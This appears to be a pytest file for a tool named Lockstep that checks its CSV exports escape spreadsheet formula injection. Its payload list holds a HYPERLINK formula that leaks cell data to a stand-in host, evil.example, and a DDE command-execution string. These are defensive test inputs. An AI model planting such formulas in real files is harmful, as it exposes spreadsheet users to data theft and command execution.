"""Spreadsheet formula injection: every CSV Lockstep writes has inert text cells (OWASP's CSV
injection guidance), numbers and JSON exports stay exact."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
from click.testing import CliRunner

from lockstep.cli import main
from lockstep.exports import render

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
HARMLESS = ["dance challenge", "a=b", "1-2", "#tag @mention", "", "emoji 🎉 =)"]


def _cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_exported_csv_cells_cannot_run_as_formulas() -> None:
    text = PAYLOADS + HARMLESS
    table = pd.DataFrame({"caption": text, "count": range(-3, len(text) - 3)})
    rows = _cells(render(table, "csv"))
    assert [r["caption"] for r in rows] == ["'" + t for t in PAYLOADS] + HARMLESS
    assert [int(r["count"]) for r in rows] == list(range(-3, len(text) - 3))  # numbers as numbers
    # the JSON export keeps every value exactly as the platform gave it
    assert [r["caption"] for r in json.loads(render(table, "json"))] == text


def test_coordination_outputs_are_inert(tmp_path: Path) -> None:
    # account and object ids come from the data under investigation too
    source = tmp_path / "shares.csv"
    rows = ["object_id,account_id,content_id,timestamp_share"]
    shares = [("=evil()", 0), ("+1", 5), ("plain", 10)] * 2 + [("=evil()", 0), ("+1", 5)]
    for i, (acc, dt) in enumerate(shares):  # three rounds: the first two accounts meet 3 times
        rows.append(f"@obj,{acc},c{i},{1_000_000 + dt + (i // 3) * 10_000}")
    source.write_text("\n".join(rows) + "\n")
    out, edges = tmp_path / "pairs.csv", tmp_path / "edges.csv"
    done = CliRunner().invoke(main, ["coordination", "--input", str(source), "--out", str(out),
                                     "--edges-out", str(edges), "--edge-weight", "0"],
                              catch_exceptions=False)
    assert done.exit_code == 0, done.output
    pairs = _cells(out.read_bytes())
    assert pairs and {r["object_id"] for r in pairs} == {"'@obj"}
    accounts = {r[c] for r in pairs for c in r if c.startswith("account_id")}
    assert accounts == {"'=evil()", "'+1", "plain"}
    ties = _cells(edges.read_bytes())  # the edge above the weight percentile: the 3 meetings
    assert [sorted((r["from"], r["to"])) for r in ties] == [["'+1", "'=evil()"]]
